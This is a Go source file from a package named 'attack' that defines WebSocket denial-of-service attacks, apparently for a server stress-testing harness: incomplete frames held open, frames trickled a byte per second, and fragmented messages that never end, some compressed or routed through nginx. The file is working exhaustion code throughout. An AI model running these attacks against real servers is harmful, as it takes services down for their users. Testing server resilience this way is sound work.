package attack

import (
	"bytes"
	"compress/flate"
	"context"
	"time"

	"github.com/gobwas/ws"
)

// unfinished messages make the server keep what it cannot use yet.
func unfinished() []Attack {
	return []Attack{
		{Name: "unfinished-frame", What: "all but the last byte of a 64 KiB frame", Short: 100, Long: 16000, run: unfinishedFrame(plain)},
		{Name: "unfinished-frame-deflated", What: "the same, compressed", Short: 50, Long: 16000, Environ: compressing,
			run: unfinishedFrame(deflated)},
		{Name: "unfinished-trickle", What: "a 64 KiB frame, a byte a second", Short: 50, Long: 16000, run: trickledFrame},
		{Name: "unfinished-header", What: "the first byte of a frame", Long: 16000, run: heldFrame([]byte{0x81})},
		{Name: "unfinished-ping", What: "half of a ping", Long: 16000, run: heldFrame(frame(ws.OpPing, true, false, []byte("hello"))[:8])},
		{Name: "unfinished-fragments", What: "fragments of 1 KiB that never end", Short: 50, Long: 16000, run: endlessFragments(1 << 10)},
		{Name: "unfinished-bytes", What: "fragments of 1 B that never end", Long: 16000, run: endlessFragments(1)},
		{Name: "unfinished-nginx", What: "all but the last byte of a 64 KiB frame, through nginx", Proxy: true, Short: 50, Long: 4000,
			run: unfinishedFrame(plain)},
	}
}

// unfinishedFrame holds back the last byte.
func unfinishedFrame(offer compression) func(context.Context, *attacker) error {
	payload := bytes.Repeat([]byte{' '}, 64<<10)
	if offer {
		payload = deflate(payload[:60<<10])
	}
	text := frame(ws.OpText, true, bool(offer), payload)
	return func(ctx context.Context, a *attacker) error { return hold(ctx, a, text[:len(text)-1], offer) }
}

func heldFrame(b []byte) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error { return hold(ctx, a, b, plain) }
}

// hold sends a part of a frame and reads to the end.
func hold(ctx context.Context, a *attacker, b []byte, offer compression) error {
	s, err := a.upgrade(ctx, "/ws", offer)
	if err != nil {
		return err
	}
	defer s.Close()
	if _, err := s.Write(b); err != nil {
		return err
	}
	return s.drain()
}

// deflate is the payload of a compressed message that does not shrink: stored blocks.
func deflate(payload []byte) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.NoCompression) // the level is valid
	w.Write(payload)                                 // to memory
	w.Flush()
	return bytes.TrimSuffix(b.Bytes(), []byte{0, 0, 0xff, 0xff})
}

func trickledFrame(ctx context.Context, a *attacker) error {
	s, err := a.upgrade(ctx, "/ws", plain)
	if err != nil {
		return err
	}
	defer s.Close()
	rest := frame(ws.OpText, true, false, bytes.Repeat([]byte{' '}, 64<<10))
	return s.flood(func() error {
		return every(ctx, time.Second, func() error {
			_, err := s.Write(rest[:1])
			rest = rest[1:]
			return err
		})
	})
}

// endlessFragments sends one fragment each second, of a message without an end.
func endlessFragments(size int) func(context.Context, *attacker) error {
	payload := bytes.Repeat([]byte{' '}, size)
	return func(ctx context.Context, a *attacker) error {
		s, err := a.upgrade(ctx, "/ws", plain)
		if err != nil {
			return err
		}
		defer s.Close()
		op := ws.OpText
		return s.flood(func() error {
			return every(ctx, time.Second, func() error {
				_, err := s.Write(frame(op, false, false, payload))
				op = ws.OpContinuation
				return err
			})
		})
	}
}
